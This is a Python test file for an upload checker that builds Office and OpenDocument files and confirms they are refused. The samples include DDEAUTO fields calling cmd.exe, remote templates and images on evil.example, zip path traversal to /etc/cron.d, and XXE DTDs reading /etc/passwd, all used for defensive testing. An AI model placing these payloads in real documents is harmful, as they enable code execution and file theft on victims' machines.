"""Office files with something in them that is fetched, run or unpacked: each is really built, and refused through
`inspect` with its whole sentence."""

import zipfile

import pytest

from assessments.errors import RefusedFile
from assessments.evidence_files import inspect
from assessments.file_checks import office
from tests.factories.files import docx, odf, package, upload, xlsx

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/>'
    "</Relationships>"
)
FIELDS = "<w:document xmlns:w='urn:w'><w:p>%s</w:p></w:document>"
BEGIN, END = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>", "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
CONTENT = "<o:c xmlns:o='urn:o' xmlns:x='urn:x' xmlns:draw='urn:d' xmlns:text='urn:t' xmlns:script='urn:s'>%s</o:c>"
OBJECT = "Tệp “%s” có đối tượng nhúng (OLE, ActiveX) nên không được nhận; hãy bỏ đối tượng ấy rồi gửi lại."
LINKED = "Tệp “%s” lấy nội dung từ nơi khác (%s) nên không được nhận; hãy ngắt liên kết rồi lưu lại."
LOCKED = "Tệp “%s” có mật khẩu nên không được nhận; hãy gửi bản không có mật khẩu."
MACRO = "Tệp “%s” có macro nên không được nhận; hãy lưu lại ở dạng không có macro."
PACKED = "Tệp “%s” được nén không theo cách của tệp văn phòng nên không được nhận."


def said(name: str, content: bytes) -> str:
    """The refusal; "" where it is taken."""
    try:
        inspect(upload(name, content))
    except RefusedFile as refused:
        return str(refused)
    return ""


def word(*instructions: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return docx(word__document_dot_xml=FIELDS % f"{BEGIN}{texts}{END}")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", docx(word__embeddings__oleObject1_dot_bin=OLE)),
        ("a.docx", docx(word__embeddings__a_dot_xlsm=b"PK")),
        ("a.docx", docx(word__activeX__activeX1_dot_xml="<a/>")),
        ("a.docx", docx(word__media__image1_dot_png=OLE)),
        ("a.docx", docx(word__media__image1_dot_png=b"MZ\x90\0")),
        ("a.xlsx", xlsx(xl__embeddings__oleObject1_dot_bin=OLE)),
        ("a.odt", odf("text", **{"Object 1": OLE})),
    ],
)
def test_embedded_objects_are_refused(name, content):
    assert said(name, content) == OBJECT % name


def test_a_workbook_behind_a_chart_is_taken():
    assert said("a.docx", docx(word__embeddings__Sheet1_dot_xlsx=xlsx(), word__media__a_dot_emf=b"\x01\0\0\0")) == ""


@pytest.mark.parametrize(
    ("kind", "target", "mode", "refused"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "External", "https://evil.example/t.dotm"),
        ("image", "\\\\evil.example\\share\\a.png", "External", "\\\\evil.example\\share\\a.png"),
        ("oleObject", "file:///c:/a.xlsx", "eXternal", "file:///c:/a.xlsx"),
        ("hyperlink", "https://tinh.example/", "External", ""),
        ("image", "media/image1.png", "Internal", ""),
    ],
)
def test_what_a_document_fetches_is_refused_and_what_it_only_names_is_not(kind, target, mode, refused):
    content = docx(word___rels__document_dot_xml_dot_rels=RELATION % (kind, target, mode))
    assert said("a.docx", content) == (LINKED % ("a.docx", refused) if refused else "")


@pytest.mark.parametrize(
    ("parts", "refused"),
    [
        (["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"], "DDEAUTO"),
        (["DD", "E", " Excel a b"], "DDE"),
        ([" ", "includetext &quot;\\\\\\\\evil\\\\a.docx&quot;"], "INCLUDETEXT"),
        (["INCLUDEPICTURE &quot;http://evil.example/&quot;"], "INCLUDEPICTURE"),
        ([" LINK Excel.Sheet.12 a"], "LINK"),
        (["HYPERLINK &quot;https://tinh.example/LINK DDE&quot;"], ""),
        ([" PAGE ", "\\* MERGEFORMAT"], ""),
    ],
)
def test_fields_that_fetch_are_found_however_they_are_cut(parts, refused):
    assert said("a.docx", word(*parts)) == (LINKED % ("a.docx", refused) if refused else "")


def test_a_simple_field_is_read_as_well():
    simple = FIELDS % "<w:fldSimple w:instr=' DDE Excel a b'/>"
    assert said("a.docx", docx(word__footer1_dot_xml=simple)) == LINKED % ("a.docx", "DDE")


def test_the_text_of_a_document_is_no_field():
    text = FIELDS % "<w:r><w:t>DDE Excel; LINK; INCLUDETEXT</w:t></w:r>"
    assert said("a.docx", docx(word__document_dot_xml=text)) == ""


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
def test_workbooks_that_take_values_from_others_are_refused(part):
    content = package({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", part: "<x/>"})
    assert said("a.xlsx", content) == LINKED % ("a.xlsx", part)


@pytest.mark.parametrize(
    ("inside", "sentence"),
    [
        ("<o:dde-source/>", LINKED % ("a.odt", "DDE")),
        ("<text:dde-connection-decl/>", LINKED % ("a.odt", "DDE")),
        ("<draw:image x:href='http://evil.example/a.png'/>", LINKED % ("a.odt", "http://evil.example/a.png")),
        ("<text:section-source x:href='../a.odt'/>", LINKED % ("a.odt", "../a.odt")),
        ("<draw:object x:href='//evil.example/a'/>", LINKED % ("a.odt", "//evil.example/a")),
        ("<script:event-listener/>", MACRO % "a.odt"),
        ("<draw:image x:href='Pictures/a.png'/><text:a x:href='https://tinh.example/'/>", ""),
    ],
)
def test_opendocument_is_read_for_the_same(inside, sentence):
    assert said("a.odt", odf("text", content_dot_xml=CONTENT % inside)) == sentence


def test_opendocument_with_a_password_says_so():
    manifest = "<m:manifest xmlns:m='urn:m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
    assert said("a.ods", odf("spreadsheet", **{"META-INF/manifest.xml": manifest})) == LOCKED % "a.ods"


def test_office_files_with_a_password_say_so():
    locked = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(900)
    assert said("a.docx", locked) == LOCKED % "a.docx"


@pytest.mark.parametrize("part", ["../../etc/cron.d/a", "/etc/passwd", "C:/a.xml", "word/..\\..\\a"])
def test_paths_that_lead_out_of_the_package_are_refused(part):
    content = package({"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", part: "<a/>"})
    assert said("a.docx", content) == PACKED % "a.docx"


@pytest.mark.parametrize("compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_compressions_that_no_office_program_writes_are_refused(compression):
    content = package({"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>"}, compression)
    assert said("a.docx", content) == PACKED % "a.docx"


def test_two_parts_of_one_name_are_refused():
    content = docx(word__Document_dot_xml="<other/>")
    assert said("a.docx", content) == "Tệp “a.docx” có hai phần trùng tên nên không được nhận."


DTD = "Tệp “%s” có khai báo DTD trong XML nên không được nhận; hãy lưu lại tệp."


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        '<!DOCTYPE x SYSTEM "http://evil.example/"><x/>'.encode("utf-16"),
        "<!--" + "x" * 200_000 + "--><!DOCTYPE x><x/>",
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/_rels/document.xml.rels", "customXml/item1.xml"])
def test_declarations_of_entities_are_refused_in_any_part(xml, part):
    content = package({"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", part: xml}, zipfile.ZIP_STORED)
    assert said("a.docx", content) == DTD % "a.docx"


def test_of_a_worksheet_the_beginning_is_enough():
    assert said("a.xlsx", xlsx(xl__worksheets__sheet1_dot_xml="<!DOCTYPE x><x/>")) == DTD % "a.xlsx"
    cells = "<worksheet>" + "<c/>" * 40_000 + "this is never reached <<<"
    parts = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>", "xl/worksheets/sheet1.xml": cells}
    assert said("a.xlsx", package(parts, zipfile.ZIP_STORED)) == ""


def test_more_xml_than_is_read_through_is_refused(monkeypatch):
    monkeypatch.setattr(office, "MAX_XML", 1000)
    assert said("a.docx", docx(word__document_dot_xml="<d>" + "chữ " * 300 + "</d>")) == (
        "Tệp “a.docx” giải nén ra quá lớn nên không được nhận."
    )


def test_folders_are_no_parts():
    assert said("a.docx", docx(**{"word/": "", "word/media/": ""})) == ""
